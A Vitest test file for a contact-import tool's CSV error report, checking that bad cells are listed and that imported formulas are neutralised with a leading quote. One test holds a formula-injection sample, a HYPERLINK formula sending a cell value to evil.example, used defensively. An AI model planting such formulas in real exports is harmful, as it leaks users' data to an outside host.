import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportEntries, writeErrorReport, type ErrorReportEntry } from './error-report.ts';
import { suggestMapping } from './mapping.ts';
import { normaliseRow } from './normalise-row.ts';
import { openImportFile } from './read-file.ts';

const fixture = (name: string): string => path.join(import.meta.dirname, 'fixtures', name);
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'sdr-report-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const options = {
  defaultCountry: 'US',
  owners: [{ id: 'u1', name: 'Sam Seller', email: 'sam@example.com' }],
};

async function entriesFor(name: string): Promise<ErrorReportEntry[]> {
  const file = await openImportFile(fixture(name));
  const mapping = suggestMapping(file.headers);
  const entries: ErrorReportEntry[] = [];
  for await (const row of file.rows()) {
    const result = normaliseRow(row.cells, file.headers, mapping, options);
    entries.push(...reportEntries(row.rowNumber, result));
  }
  return entries;
}

async function readReport(file: string): Promise<string[][]> {
  const text = await readFile(file, 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('error report', () => {
  it('lists every bad cell with its row number, column, value and message', async () => {
    const entries = await entriesFor('hubspot-contacts.csv');
    const file = path.join(dir, 'hubspot-errors.csv');
    expect(await writeErrorReport(entries, file)).toBe(entries.length);
    const lines = await readReport(file);
    expect(lines[0]).toEqual(['Row', 'Column', 'Value', 'Problem', 'Severity']);
    expect(lines.slice(1).map((l) => [l[0], l[1], l[2], l[4]])).toEqual([
      ['5', 'Country/Region', 'Narnia', 'error'],
      ['5', 'Email', 'not-an-email', 'error'],
      ['5', 'Number of Employees', 'lots', 'error'],
      ['5', 'Time Zone', 'Mars/Base', 'error'],
      ['5', 'Create Date', 'yesterday', 'error'],
      ['5', 'Contact owner', 'Nobody Known', 'warning'],
    ]);
    expect(lines[1]![3]).toBe('Unknown country "Narnia"; use a 2-letter code like US or DE');
  });

  it('neutralises formulas it repeats from the imported file', async () => {
    const entries = await entriesFor('formulas.csv');
    const file = path.join(dir, 'formula-report.csv');
    await writeErrorReport(entries, file);
    const values = (await readReport(file)).slice(1).map((l) => l[2]);
    expect(values).toContain(`'=HYPERLINK("http://evil.example/?x="&A2,"Click me")`);
    expect(values).toContain("'=1+2");
    expect(values.every((v) => !/^[=+\-@]/.test(v!) || /^[+-][\d\s().-]+$/.test(v!))).toBe(true);
  });

  it('can leave warnings out, and writes a header-only report for a clean import', async () => {
    const result = normaliseRow(['x'], ['Contact owner'], { 'Contact owner': 'ownerId' });
    expect(reportEntries(7, result)).toHaveLength(1);
    expect(reportEntries(7, result, { warnings: false })).toEqual([]);
    const file = path.join(dir, 'clean.csv');
    expect(await writeErrorReport([], file)).toBe(0);
    expect(await readReport(file)).toEqual([['Row', 'Column', 'Value', 'Problem', 'Severity']]);
  });
});
